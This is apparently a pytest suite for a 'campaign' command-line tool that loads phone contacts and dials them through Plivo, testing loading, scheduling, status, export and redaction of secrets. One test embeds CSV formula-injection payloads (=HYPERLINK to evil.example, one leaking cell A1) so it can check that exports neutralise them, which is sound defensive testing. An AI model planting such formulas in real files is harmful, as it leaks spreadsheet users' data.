"""The `campaign` command run as a user runs it: a subprocess, its output and exit code."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import pty
import re
import select
import signal
import subprocess
import time
from pathlib import Path

import asyncpg
import pytest
from cli_fixtures import LOAD_OPTIONS

from campaign.destinations import read_destination


def run(
    command: list[str], env: dict[str, str], *args: str, cwd: Path | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*command, *args], env=env, capture_output=True, text=True, timeout=60, cwd=cwd, check=False
    )


@pytest.fixture
def numbers_csv(tmp_path: Path) -> Path:
    path = tmp_path / "numbers.csv"
    path.write_text(
        "name,phone\nAda,+1 415 555 0123\nBob,(415) 555-0124\nCy,nope\nDi,415-555-0123\n"
    )
    return path


def test_load_then_status_and_list(
    campaign_command: list[str], cli_env: dict[str, str], numbers_csv: Path, tmp_path: Path
) -> None:
    """load prints the campaign and a summary, reports rejects; status and list show counts."""
    rejects = tmp_path / "rejects.csv"
    result = run(
        campaign_command,
        cli_env,
        "load",
        str(numbers_csv),
        "--name",
        "reminders",
        *LOAD_OPTIONS,
        "--default-region",
        "US",
        "--rejects",
        str(rejects),
        "--caller-name",
        "Clinic",
    )
    assert result.returncode == 0, result.stderr
    assert "campaign reminders (id 1): running" in result.stdout
    assert "rows read 4, loaded 2, duplicates 1, rejected 1" in result.stdout
    assert "line 4: 'nope' rejected: not a phone number" in result.stderr
    assert rejects.read_text().splitlines() == ["line,value,reason", "4,nope,not a phone number"]

    status = run(campaign_command, cli_env, "status", "reminders", "--json")
    assert status.returncode == 0, status.stderr
    assert json.loads(status.stdout) | {"created_at": None} == {
        "campaign_id": 1,
        "campaign": "reminders",
        "status": "running",
        "total": 2,
        "pending": 2,
        "claimed": 0,
        "sending": 0,
        "fired": 0,
        "queued": 0,
        "failed": 0,
        "unknown": 0,
        "cancelled": 0,
        "created_at": None,
        "answered": 0,
        "busy": 0,
        "no_answer": 0,
        "call_failed": 0,
        "timeout": 0,
        "answer_rate": None,
        "suppressed": 0,
        "expired": 0,
        "waiting_for_window": 0,
        "responses": {},
        "schedule": {
            "calling_hours": "any",
            "calling_days": None,
            "skip_dates": [],
            "start_at": None,
            "end_at": None,
        },
        "next_window_opens_at": None,
        "pacing": {
            "priority": 0,
            "calls_per_second": None,
            "batch_size": 100,
            "max_concurrent_calls": None,
            "live_calls": 0,
            "account_max_concurrent_calls": None,
            "account_live_calls": 0,
            "caller_id_mode": None,
            "caller_ids": [],
        },
    }
    listing = run(campaign_command, cli_env, "list")
    assert listing.returncode == 0, listing.stderr
    assert "reminders" in listing.stdout
    assert "pending" in listing.stdout.splitlines()[0]


def test_load_with_a_schedule_and_status_shows_the_window(
    campaign_command: list[str], cli_env: dict[str, str], tmp_path: Path
) -> None:
    """`load` stores the schedule, says when calls are placed, and `status` shows how many wait
    for their window; a zone the database does not know is one line, exit 1, nothing created."""
    contacts = tmp_path / "zones.csv"
    contacts.write_text("phone,tz\n+14155550123,\n+442071838750,\nsip:a@example.com,UTC\n")
    options = [
        "--from", "+14155550100", "--answer-url", "https://example.com/answer.xml",
        "--calling-hours", "09:00-12:00,14:00-20:00", "--calling-days", "mon-fri",
        "--skip-dates", "2026-12-25", "--end-at", "2099-01-01T00:00Z",
    ]  # fmt: skip
    result = run(campaign_command, cli_env, "load", str(contacts), "--name", "zones", *options)
    assert result.returncode == 0, result.stderr
    assert (
        "calls placed 09:00-12:00,14:00-20:00 in each callee's local time, on "
        "mon,tue,wed,thu,fri, except 2026-12-25, until 2099-01-01T00:00:00+00:00"
    ) in result.stdout
    status = run(campaign_command, cli_env, "status", "zones", "--json")
    payload = json.loads(status.stdout)
    assert payload["schedule"]["calling_hours"] == "09:00-12:00,14:00-20:00"
    assert payload["schedule"]["calling_days"] == ["mon", "tue", "wed", "thu", "fri"]
    # Whatever the hour: the contacts whose window is closed now are counted, and then the
    # next opening (within a week, weekends included) is shown.
    waiting = payload["waiting_for_window"]
    assert 0 <= waiting <= 3
    assert (payload["next_window_opens_at"] is None) == (waiting == 0)
    table = run(campaign_command, cli_env, "status", "zones")
    assert table.stdout.splitlines()[-2].startswith(
        "calls placed 09:00-12:00,14:00-20:00 in each callee's local time"
    )
    assert table.stdout.splitlines()[-1].startswith("pacing: priority 0")
    if waiting:
        assert f"{waiting} pending wait for their calling window, the next opens" in table.stdout
    unknown = run(
        campaign_command,
        cli_env,
        "load",
        str(contacts),
        "--name",
        "bad-zone",
        *LOAD_OPTIONS,
        "--default-timezone",
        "Europe/Lodnon",
    )
    assert unknown.returncode == 1
    assert unknown.stderr.strip().splitlines()[-1] == (
        "campaign: error: --default-timezone: 'Europe/Lodnon' is not a time zone the database "
        "knows (IANA names like America/New_York); did you mean Europe/London?"
    )
    listing = json.loads(run(campaign_command, cli_env, "list", "--json").stdout)
    assert [row["campaign"] for row in listing] == ["zones"]


def test_add_to_existing_campaign(
    campaign_command: list[str], cli_env: dict[str, str], numbers_csv: Path, tmp_path: Path
) -> None:
    """--campaign NAME adds a second file's new people to the campaign, JSON summary on request."""
    first = run(
        campaign_command,
        cli_env,
        "load",
        str(numbers_csv),
        "--name",
        "c1",
        *LOAD_OPTIONS,
        "--default-region",
        "US",
    )
    assert first.returncode == 0, first.stderr
    more = tmp_path / "more.csv"
    more.write_text("+14155550124\n+14155550125\n")
    second = run(campaign_command, cli_env, "load", str(more), "--campaign", "c1", "--json")
    assert second.returncode == 0, second.stderr
    assert json.loads(second.stdout) == {
        "campaign": "c1",
        "campaign_id": 1,
        "status": "running",
        "rows_read": 2,
        "loaded": 1,
        "duplicates": 1,
        "rejected": 0,
        "suppressed": 0,
    }


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--caller-name", "x" * 51], "--caller-name: must be at most 50 characters"),
        (["--machine-detection-time", "50"], "--machine-detection-time: must be between 2000"),
        (["--ring-method", "PUT"], "--ring-method: must be GET or POST"),
        (["--sip-headers", "a=b;c"], "--sip-headers: must be key=value pairs"),
        (["--default-region", "XX"], "--default-region: 'XX' is not a region code"),
        # Numbers beyond their integer columns overflowed inside PostgreSQL (a traceback).
        (
            ["--time-limit", "99999999999"],
            "--time-limit: must be between 1 and 2147483647 seconds, got 99999999999",
        ),
        (
            ["--machine-detection-time", "99999999999"],
            "--machine-detection-time: must be between 2000 and 10000 milliseconds",
        ),
        (["--ring-timeout", "2147483648"], "--ring-timeout: must be between 1 and 2147483647"),
        (
            ["--track-calls", "--redial-on", "busy", "--redial-delays", "1h,30000d"],
            "--redial-delays: '30000d' is longer than 365 days, the longest delay",
        ),
        (
            ["--calling-hours", "21:00-08:00"],
            "--calling-hours: '21:00-08:00' ends before it starts; a range over midnight",
        ),
        (["--calling-days", "weekdays"], "--calling-days: 'weekdays' is not a day of the week"),
        (["--start-at", "2026-12-03T09:00"], "--start-at: '2026-12-03T09:00' has no UTC offset"),
    ],
)
def test_bad_campaign_parameter_exits_2(
    campaign_command: list[str],
    cli_env: dict[str, str],
    numbers_csv: Path,
    arguments: list[str],
    message: str,
) -> None:
    """A bad Make-a-call parameter is one line naming the option, exit 2, nothing created."""
    result = run(
        campaign_command,
        cli_env,
        "load",
        str(numbers_csv),
        "--name",
        "x",
        *LOAD_OPTIONS,
        *arguments,
    )
    assert result.returncode == 2
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1
    assert lines[0].startswith(f"campaign: error: {message}")
    assert "Traceback" not in result.stderr
    listing = run(campaign_command, cli_env, "list", "--json")
    assert json.loads(listing.stdout) == []


def test_missing_file_and_unusable_file(
    campaign_command: list[str], cli_env: dict[str, str], tmp_path: Path
) -> None:
    """A missing file, or one with nothing dialable, exits 1 with one clear line; nothing kept."""
    missing = run(
        campaign_command, cli_env, "load", str(tmp_path / "nope.csv"), "--name", "x", *LOAD_OPTIONS
    )
    assert missing.returncode == 1
    assert (
        missing.stderr.strip()
        == f"campaign: error: {tmp_path / 'nope.csv'}: no such file; check the path"
    )
    junk = tmp_path / "junk.csv"
    junk.write_text("phone\nabc\n")
    unusable = run(campaign_command, cli_env, "load", str(junk), "--name", "x", *LOAD_OPTIONS)
    assert unusable.returncode == 1
    assert (
        unusable.stderr.strip()
        .splitlines()[-1]
        .startswith(f"campaign: error: {junk}: none of its 1 rows")
    )
    assert json.loads(run(campaign_command, cli_env, "list", "--json").stdout) == []


def test_national_numbers_without_a_region_refuse_the_load(
    campaign_command: list[str], cli_env: dict[str, str], tmp_path: Path
) -> None:
    """Without --default-region, a US number written nationally from a US caller ID refuses the
    whole load with one line (the line, the value, what it is, the fix); nothing is created.
    The same file with --default-region US loads, and Plivo's format loads without one."""
    national = tmp_path / "national.csv"
    national.write_text("name,phone\nAda,+1 415 555 0123\nBob,415-555-0124\n")
    refused = run(campaign_command, cli_env, "load", str(national), "--name", "n", *LOAD_OPTIONS)
    assert refused.returncode == 1
    assert refused.stderr.strip().splitlines() == [
        f"campaign: error: {national}: line 3: '415-555-0124' has no country code: it is "
        "+14155550124 dialled from the caller ID's country (US); nothing was loaded: pass "
        "--default-region US if the file holds national numbers, or write every number with + "
        "and its country code"
    ]
    assert json.loads(run(campaign_command, cli_env, "list", "--json").stdout) == []
    with_region = run(
        campaign_command, cli_env, "load", str(national), "--name", "n", *LOAD_OPTIONS,
        "--default-region", "US", "--json",
    )  # fmt: skip
    assert with_region.returncode == 0, with_region.stderr
    assert json.loads(with_region.stdout)["loaded"] == 2

    plivo = tmp_path / "plivo.csv"
    plivo.write_text("phone\n14155550125\n1-415-555-0126\n447911123456\n919876543210\n")
    loaded = run(
        campaign_command, cli_env, "load", str(plivo), "--name", "p", *LOAD_OPTIONS, "--json"
    )
    assert loaded.returncode == 0, loaded.stderr
    assert json.loads(loaded.stdout)["loaded"] == 4


def test_nul_bytes_reject_their_rows_and_refuse_a_header(
    campaign_command: list[str], cli_env: dict[str, str], tmp_path: Path
) -> None:
    """A NUL byte (which PostgreSQL cannot store) rejects its row with its line number and the
    column; the other rows load. One in the header refuses the file in one line."""
    rows = tmp_path / "nul.csv"
    rows.write_bytes(
        b"name,phone,note\nAda,+14155550123,ok\nBob,+14155550124,bad\x00note\n"
        b"Cy,+1415555\x000125,ok\nDi,+14155550126,ok\n"
    )
    loaded = run(campaign_command, cli_env, "load", str(rows), "--name", "n", *LOAD_OPTIONS)
    assert loaded.returncode == 0, loaded.stderr
    assert "rows read 4, loaded 2, duplicates 0, rejected 2" in loaded.stdout
    assert loaded.stderr.splitlines() == [
        "line 3: '+14155550124' rejected: column 'note' holds a NUL byte (\\0), which the "
        "database cannot store; remove it",
        "line 4: '+1415555\\x000125' rejected: column 'phone' holds a NUL byte (\\0), which "
        "the database cannot store; remove it",
    ]
    header = tmp_path / "nul-header.csv"
    header.write_bytes(b"name,phone,no\x00te\nAda,+14155550123,ok\n")
    refused = run(campaign_command, cli_env, "load", str(header), "--name", "h", *LOAD_OPTIONS)
    assert refused.returncode == 1
    assert refused.stderr.splitlines() == [
        f"campaign: error: {header}: the header holds a NUL byte (\\0), which no column name "
        "can hold; remove it and load the file again"
    ]


def test_a_duplicated_header_is_refused(
    campaign_command: list[str], cli_env: dict[str, str], tmp_path: Path
) -> None:
    """Two columns named alike (the first used to be dropped silently) refuse the file with one
    line naming both; nothing is created."""
    path = tmp_path / "twice.csv"
    path.write_text("name,phone,name\nAda,+14155550123,Lovelace\n")
    result = run(campaign_command, cli_env, "load", str(path), "--name", "t", *LOAD_OPTIONS)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        f"campaign: error: {path}: columns 1 and 3 of the header are both named 'name', so "
        "one would be lost; rename one of them"
    ]
    assert json.loads(run(campaign_command, cli_env, "list", "--json").stdout) == []


def test_a_database_error_is_one_line_naming_the_command(
    campaign_command: list[str], cli_env: dict[str, str], numbers_csv: Path
) -> None:
    """A statement the database refuses for a reason the engine cannot explain (here a trigger
    of the site's own) ends `campaign load` with one line naming the command, exit 1; with
    CAMPAIGN_LOG_LEVEL=debug the whole error is logged too."""
    _set_outcomes(
        cli_env["CAMPAIGN_DATABASE_URL"],
        [
            "CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS "
            "$$ BEGIN RAISE EXCEPTION 'refused by the site''s trigger'; END $$",
            "CREATE TRIGGER refuse BEFORE INSERT ON campaigns FOR EACH ROW "
            "EXECUTE FUNCTION refuse()",
        ],
    )
    arguments = ["load", str(numbers_csv), "--name", "x", *LOAD_OPTIONS, "--default-region", "US"]
    result = run(campaign_command, cli_env, *arguments)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        "campaign: error: `campaign load` failed in the database (RaiseError: refused by the "
        "site's trigger, SQLSTATE P0001); set CAMPAIGN_LOG_LEVEL=debug to log the whole error"
    ]
    debug = run(campaign_command, cli_env | {"CAMPAIGN_LOG_LEVEL": "debug"}, *arguments)
    assert debug.returncode == 1
    assert "Traceback" in debug.stderr
    assert debug.stderr.splitlines()[-1] == result.stderr.splitlines()[-1]


def test_invalid_setting_exits_2_without_secret(
    campaign_command: list[str], cli_env: dict[str, str]
) -> None:
    """An invalid setting is one line naming the variable, exit 2, and never shows the token."""
    env = cli_env | {"PLIVO_AUTH_TOKEN": "very-secret-token", "PLIVO_API_URL": "plivo.example"}
    result = run(campaign_command, env, "list")
    assert result.returncode == 2
    assert result.stderr.strip() == (
        "campaign: error: invalid setting PLIVO_API_URL: must be an http:// or https:// URL, "
        "e.g. https://api.plivo.com"
    )
    assert "very-secret-token" not in result.stdout + result.stderr


def test_unknown_campaign_status(campaign_command: list[str], cli_env: dict[str, str]) -> None:
    """Asking for a campaign that does not exist says how to find the right name."""
    result = run(campaign_command, cli_env, "status", "ghost")
    assert result.returncode == 1
    assert (
        result.stderr.strip()
        == "campaign: error: no campaign named 'ghost'; `campaign list` shows the campaigns"
    )


def test_migrate_reports_up_to_date(campaign_command: list[str], cli_env: dict[str, str]) -> None:
    """`campaign migrate` on a migrated database applies nothing and says it is up to date."""
    result = run(campaign_command, cli_env, "migrate")
    assert result.returncode == 0, result.stderr
    assert "applied" not in result.stdout
    assert "is up to date" in result.stdout


def test_a_password_in_the_url_query_is_never_shown(
    campaign_command: list[str], cli_env: dict[str, str]
) -> None:
    """`?password=` in CAMPAIGN_DATABASE_URL is *** in migrate's line and in a connect error,
    as the userinfo's password is."""
    url = cli_env["CAMPAIGN_DATABASE_URL"]
    # The embedded server's URL has a query already (?host=<its socket directory>).
    with_password = cli_env | {
        "CAMPAIGN_DATABASE_URL": url
        + ("&" if "?" in url else "?")
        + "sslmode=disable&password=SEKRET"
    }
    migrated = run(campaign_command, with_password, "migrate")
    assert migrated.returncode == 0, migrated.stderr
    assert migrated.stdout.strip().endswith("sslmode=disable&password=*** is up to date")
    unreachable = cli_env | {
        "CAMPAIGN_DATABASE_URL": "postgresql://u:SEKRET1@127.0.0.1:1/x?sslpassword=SEKRET2"
    }
    refused = run(campaign_command, unreachable, "list")
    assert refused.returncode == 1
    assert refused.stderr.startswith(
        "campaign: error: cannot connect to the database at "
        "postgresql://u:***@127.0.0.1:1/x?sslpassword=***: "
    )
    assert "SEKRET" not in migrated.stdout + migrated.stderr + refused.stdout + refused.stderr


@pytest.mark.slow
def test_demo_runs_on_embedded_defaults(campaign_command: list[str], tmp_path: Path) -> None:
    """With nothing configured, `campaign demo` loads a sample and dials it via the simulator,
    at any hour: its callees live in five time zones, so some windows are open whatever the
    wall clock says; those that are not wait, and the summary says so and when they open. The
    callees hear a reminder with their own name and appointment from the CSV, press keys
    (confirm, cancel, opt out: the summary counts each, as `status` does), busy calls are
    redialled, and the opt-outs are on the list `default`, so the next demo does not call them.
    """
    env = {
        key: value
        for key, value in os.environ.items()
        if not key.startswith(("CAMPAIGN_", "PLIVO_"))
    }
    env["CAMPAIGN_DATA_DIR"] = str(tmp_path / "data")
    result = run(campaign_command, env, "demo", "--name", "demo")
    assert result.returncode == 0, result.stderr
    assert (
        "campaign demo (id 1): rows read 50, loaded 40, duplicates 5, rejected 5\n" in result.stdout
    )
    assert (
        'the call says "Hello {first_name|there}, your appointment is on {appointment}." and '
        'asks "Press 1 to confirm, 2 to cancel, or 9 to stop these calls."' in result.stdout
    )
    found = re.search(
        r"dialled (\d+) destinations through the Plivo simulator in [\d.]+ s \((\d+) calls",
        result.stdout,
    )
    assert found is not None, result.stdout
    dialled, calls = int(found[1]), int(found[2])
    again = run(campaign_command, env, "status", "demo", "--json")
    progress = json.loads(again.stdout)
    assert dialled >= 1
    assert (progress["fired"], progress["pending"]) == (dialled, 40 - dialled)
    assert progress["waiting_for_window"] == 40 - dialled
    if dialled < 40:
        assert (
            f"{40 - dialled} contacts wait for their calling window (08:00-21:00" in result.stdout
        )
        assert progress["status"] == "running"
        assert progress["next_window_opens_at"] is not None
    else:
        assert "every callee's calling window was open" in result.stdout
        assert progress["status"] == "completed"

    # The answers: every kind, whichever windows are open (tests/unit/test_demo_sample.py).
    responses = re.search(r"^responses: (.*?)[;(]", result.stdout, re.MULTILINE)
    assert responses is not None, result.stdout
    counted = {
        meaning: int(count)
        for meaning, count in (part.rsplit(" ", 1) for part in responses[1].strip().split(", "))
    }
    assert counted == progress["responses"]
    assert min(counted.get(m, 0) for m in ("confirmed", "cancelled", "opt-out")) >= 1
    redialled = re.search(r"^redialled (\d+) callees, (\d+) times in all", result.stdout, re.M)
    assert redialled is not None, result.stdout
    assert int(redialled[1]) >= 1
    assert calls == dialled + int(redialled[2])
    opted_out = re.search(
        r"^opted out, now on the suppression list `default` \(never called again\): (.+)$",
        result.stdout,
        re.MULTILINE,
    )
    assert opted_out is not None, result.stdout
    numbers = opted_out[1].split(", ")
    assert len(numbers) == counted["opt-out"]
    listed = run(campaign_command, env, "suppress", "list", "--list", "default", "--json")
    assert sorted(entry["destination"] for entry in json.loads(listed.stdout)) == sorted(numbers)
    # One callee's call, as they heard it: their name and appointment from the CSV.
    heard = re.search(
        r'^(\+\d+) heard: "Hello (.+?), your appointment is on (.+?)\. Press 1 to confirm',
        result.stdout,
        re.MULTILINE,
    )
    assert heard is not None, result.stdout
    with (tmp_path / "data" / "demo" / "demo.csv").open(encoding="utf-8", newline="") as handle:
        people = {
            read_destination(row["phone"], "US")[0]: (row["first_name"], row["appointment"])
            for row in csv.DictReader(handle)
            if re.search(r"\d{6}", row["phone"])
        }
    assert people[heard[1]] == (heard[2], heard[3])

    # Around the clock, every one is dialled now, but those who opted out above.
    anyhour = run(campaign_command, env, "demo", "--name", "any", "--calling-hours", "any")
    assert anyhour.returncode == 0, anyhour.stderr
    assert f"rejected 5, suppressed {len(numbers)}\n" in anyhour.stdout
    assert f"dialled {40 - len(numbers)} destinations through the Plivo simulator" in (
        anyhour.stdout
    )
    assert "every callee's calling window was open (at any hour)" in anyhour.stdout
    assert f"{len(numbers)} callees were not called: on a suppression list" in anyhour.stdout


def _set_outcomes(database_url: str, statements: list[str]) -> None:
    """Change contacts directly in SQL, as callbacks and workers would have."""

    async def execute() -> None:
        connection = await asyncpg.connect(database_url)
        try:
            for statement in statements:
                await connection.execute(statement)
        finally:
            await connection.close()

    asyncio.run(execute())


def _load_reminders(campaign_command: list[str], cli_env: dict[str, str], csv: Path) -> None:
    """Campaign `reminders`: Ada answered a 42 s call, Bob is still pending."""
    loaded = run(
        campaign_command, cli_env, "load", str(csv), "--name", "reminders", *LOAD_OPTIONS,
        "--default-region", "US",
    )  # fmt: skip
    assert loaded.returncode == 0, loaded.stderr
    _set_outcomes(
        cli_env["CAMPAIGN_DATABASE_URL"],
        [
            "UPDATE contacts SET status = 'fired', attempts = 1, call_status = 'completed',"
            " duration_s = 42, request_uuid = 'req-ada' WHERE destination = '+14155550123'"
        ],
    )


def test_export_to_stdout_and_to_a_file(
    campaign_command: list[str], cli_env: dict[str, str], numbers_csv: Path, tmp_path: Path
) -> None:
    """`campaign export` writes one CSV row per contact with its outcome, to stdout or whole to
    --output; an unknown campaign or an unwritable --output is one line, exit 1, no file."""
    _load_reminders(campaign_command, cli_env, numbers_csv)

    exported = run(campaign_command, cli_env, "export", "reminders")
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.reader(io.StringIO(exported.stdout, newline="")))
    assert rows[0][:8] == [
        "name", "destination", "raw_destination", "line_number", "status", "outcome", "attempts",
        "call_status",
    ]  # fmt: skip
    assert rows[0][-1] == "updated_at"
    by_name = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert list(by_name) == ["Ada", "Bob"]
    assert by_name["Ada"]["destination"] == "+14155550123"
    assert by_name["Ada"]["raw_destination"] == "+1 415 555 0123"
    assert (by_name["Ada"]["outcome"], by_name["Ada"]["duration_s"]) == ("answered", "42")
    assert (by_name["Bob"]["line_number"], by_name["Bob"]["outcome"]) == ("3", "pending")

    target = tmp_path / "out" / "reminders.csv"
    target.parent.mkdir()
    to_file = run(campaign_command, cli_env, "export", "reminders", "--output", str(target))
    assert to_file.returncode == 0, to_file.stderr
    assert to_file.stdout.strip() == f"exported 2 contacts of reminders to {target}"
    assert target.read_text(encoding="utf-8") == exported.stdout
    assert [path.name for path in target.parent.iterdir()] == ["reminders.csv"]

    ghost = run(campaign_command, cli_env, "export", "ghost", "--output", str(tmp_path / "g.csv"))
    assert ghost.returncode == 1
    assert ghost.stderr.strip() == (
        "campaign: error: no campaign named 'ghost'; `campaign list` shows the campaigns"
    )
    assert not (tmp_path / "g.csv").exists()

    nowhere = tmp_path / "missing" / "x.csv"
    unwritable = run(campaign_command, cli_env, "export", "reminders", "-o", str(nowhere))
    assert unwritable.returncode == 1
    assert unwritable.stderr.strip().splitlines() == [
        f"campaign: error: --output {nowhere}: cannot write there (No such file or directory); "
        "choose a file in a folder you can write to"
    ]
    assert not nowhere.parent.exists()


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(newline="") as file:
        return list(csv.reader(file))


def test_export_and_rejects_write_formulas_as_text(
    campaign_command: list[str], cli_env: dict[str, str], tmp_path: Path
) -> None:
    """A formula in an uploaded file (=HYPERLINK…) reaches neither the export nor the rejects
    file as a formula: the cell gets a leading '; the destination and a phone written as a
    plain number stay as they are; --no-escape-formulas writes the cells as they were."""
    uploaded = tmp_path / "uploaded.csv"
    uploaded.write_text(
        "name,phone,note\n"
        'Ada,+1 415 555 0123,"=HYPERLINK(""http://evil.example/?""&A1,""open"")"\n'
        '"@Bob",=HYPERLINK("http://evil.example"),x\n'
    )
    rejects = tmp_path / "rejects.csv"
    loaded = run(
        campaign_command, cli_env, "load", str(uploaded), "--name", "f", *LOAD_OPTIONS,
        "--rejects", str(rejects),
    )  # fmt: skip
    assert loaded.returncode == 0, loaded.stderr
    assert _csv_rows(rejects)[1][:2] == [
        "3",
        '\'=HYPERLINK("http://evil.example")',
    ]
    exported = run(campaign_command, cli_env, "export", "f")
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.reader(io.StringIO(exported.stdout, newline="")))
    ada = dict(zip(rows[0], rows[1], strict=True))
    assert ada["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert (ada["destination"], ada["raw_destination"]) == ("+14155550123", "+1 415 555 0123")

    verbatim = run(campaign_command, cli_env, "export", "f", "--no-escape-formulas")
    rows = list(csv.reader(io.StringIO(verbatim.stdout, newline="")))
    assert dict(zip(rows[0], rows[1], strict=True))["note"].startswith("=HYPERLINK(")
    again = run(
        campaign_command, cli_env, "load", str(uploaded), "--name", "g", *LOAD_OPTIONS,
        "--rejects", str(rejects), "--no-escape-formulas",
    )  # fmt: skip
    assert again.returncode == 0, again.stderr
    assert _csv_rows(rejects)[1][1] == '=HYPERLINK("http://evil.example")'


def test_status_once_shows_counts_and_outcomes(
    campaign_command: list[str], cli_env: dict[str, str], numbers_csv: Path
) -> None:
    """`campaign status NAME --once` (and plain `status NAME` when piped) prints the table once,
    with the calls' outcomes and the answer rate, the schedule and the pacing; --json carries
    them too."""
    _load_reminders(campaign_command, cli_env, numbers_csv)
    for arguments in (["--once"], []):
        result = run(campaign_command, cli_env, "status", "reminders", *arguments)
        assert result.returncode == 0, result.stderr
        header, row, schedule, pacing = result.stdout.splitlines()
        assert schedule == "calls placed at any hour"
        assert pacing == "pacing: priority 0, the account's calls per second, batches of 100"
        assert header.split()[-8:] == [
            "answered", "busy", "no-answer", "call", "failed", "timeout", "answer", "rate",
        ]  # fmt: skip
        assert row.split() == [
            "1", "reminders", "running", "2", "1", "0", "0", "1", "0", "0", "0", "0", "0", "0",
            "1", "0", "0", "0", "0", "100.0%",
        ]  # fmt: skip
    as_json = json.loads(run(campaign_command, cli_env, "status", "reminders", "--json").stdout)
    assert (as_json["answered"], as_json["answer_rate"]) == (1, 1.0)
    assert (as_json["pacing"]["priority"], as_json["pacing"]["caller_ids"]) == (0, [])


ANSI_CONTROL = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|\x1b\][^\x07]*\x07")


def _run_on_terminal(
    command: list[str], env: dict[str, str], *args: str, interrupt_after: str | None = None
) -> tuple[int, str, str]:
    """Run with stdout on a pseudo-terminal; send Ctrl-C (SIGINT) once `interrupt_after` shows.

    Returns the exit code, the terminal's text without control sequences, and stderr.
    """
    primary, secondary = pty.openpty()
    process = subprocess.Popen(
        [*command, *args], env=env | {"TERM": "xterm"}, stdout=secondary, stderr=subprocess.PIPE,
        text=True,
    )  # fmt: skip
    os.close(secondary)
    output = b""
    interrupted = False
    deadline = time.monotonic() + 60
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([primary], [], [], 0.1)
            if ready:
                try:
                    chunk = os.read(primary, 65536)
                except OSError:  # the terminal closed: the process has exited
                    chunk = b""
                if not chunk and process.poll() is not None:
                    break
                output += chunk
            elif process.poll() is not None:
                break
            text = ANSI_CONTROL.sub("", output.decode(errors="replace"))
            if interrupt_after is not None and not interrupted and interrupt_after in text:
                process.send_signal(signal.SIGINT)
                interrupted = True
        code = process.wait(timeout=10)
    finally:
        if process.poll() is None:
            process.kill()
        os.close(primary)
    assert process.stderr is not None
    with process.stderr:
        stderr = process.stderr.read()
    return code, ANSI_CONTROL.sub("", output.decode(errors="replace")), stderr


@pytest.mark.slow
def test_status_on_a_terminal_is_live_until_ctrl_c(
    campaign_command: list[str], cli_env: dict[str, str], numbers_csv: Path
) -> None:
    """On a terminal `campaign status NAME` keeps showing the running campaign with its outcomes
    and dialing rate; Ctrl-C ends it quietly with exit 0."""
    _load_reminders(campaign_command, cli_env, numbers_csv)
    code, screen, stderr = _run_on_terminal(
        campaign_command, cli_env, "status", "reminders", interrupt_after="dialing  0.0"
    )
    assert code == 0, stderr
    assert stderr == ""
    assert "campaign reminders (id 1): running" in screen
    assert "100.0%" in screen
    assert "dialing  0.0 contacts/s   ETA unknown, 1 pending" in screen


@pytest.mark.slow
def test_status_on_a_terminal_ends_when_the_campaign_is_completed(
    campaign_command: list[str], cli_env: dict[str, str], numbers_csv: Path
) -> None:
    """On a terminal, a completed campaign is shown once and the command exits 0 by itself."""
    _load_reminders(campaign_command, cli_env, numbers_csv)
    _set_outcomes(
        cli_env["CAMPAIGN_DATABASE_URL"],
        [
            "UPDATE contacts SET status = 'fired', call_status = 'busy' WHERE status = 'pending'",
            "UPDATE campaigns SET status = 'completed' WHERE name = 'reminders'",
        ],
    )
    code, screen, stderr = _run_on_terminal(campaign_command, cli_env, "status", "reminders")
    assert code == 0, stderr
    assert "campaign reminders (id 1): completed" in screen
    assert "50.0%" in screen
    assert "ETA completed" in screen


def test_set_changes_a_campaigns_pacing(
    campaign_command: list[str], cli_env: dict[str, str], numbers_csv: Path, database_url: str
) -> None:
    """`campaign set NAME --calls-per-second 5 --batch-size 50` changes the stored pacing and
    says so; `none` lifts the campaign's own cap; --priority too; no option, a bad rate, an
    unknown campaign or a cap of concurrent calls on a campaign that does not track its calls is
    one line, with exit 2, 2, 1 and 1, and changes nothing."""
    loaded = run(campaign_command, cli_env, "load", str(numbers_csv), "--name", "reminders",
                 *LOAD_OPTIONS, "--default-region", "US")  # fmt: skip
    assert loaded.returncode == 0, loaded.stderr

    async def pacing() -> tuple[float | None, int]:
        connection = await asyncpg.connect(database_url)
        try:
            row = await connection.fetchrow(
                "SELECT calls_per_second, batch_size FROM campaigns WHERE name = 'reminders'"
            )
        finally:
            await connection.close()
        assert row is not None
        return row["calls_per_second"], row["batch_size"]

    result = run(campaign_command, cli_env, "set", "reminders", "--calls-per-second", "5",
                 "--batch-size", "50")  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "campaign reminders: calls per second 5, batch size 50"
    assert asyncio.run(pacing()) == (5.0, 50)
    lifted = run(campaign_command, cli_env, "set", "reminders", "--calls-per-second", "none")
    assert lifted.stdout.strip() == "campaign reminders: calls per second: the account's only"
    assert asyncio.run(pacing()) == (None, 50)
    prioritised = run(campaign_command, cli_env, "set", "reminders", "--priority", "3")
    assert prioritised.stdout.strip() == "campaign reminders: priority 3"
    for arguments, code, message in (
        ([], 2, "campaign: error: say what to change: --calls-per-second RATE|none, --batch-size"),
        (["--calls-per-second", "fast"], 2, "campaign: error: --calls-per-second: 'fast'"),
        (["--batch-size", "5"], 1, "campaign: error: no campaign named 'ghost'"),
        # The campaign does not track its calls: the cap cannot count them.
        (["--max-concurrent-calls", "5", "--batch-size", "7"], 1,
         "campaign: error: --max-concurrent-calls: campaign 'reminders' does not track"),
    ):  # fmt: skip
        name = "ghost" if arguments == ["--batch-size", "5"] else "reminders"
        refused = run(campaign_command, cli_env, "set", name, *arguments)
        assert refused.returncode == code
        assert refused.stderr.strip().startswith(message), refused.stderr
    # Nothing of a refused change was written.
    assert asyncio.run(pacing()) == (None, 50)
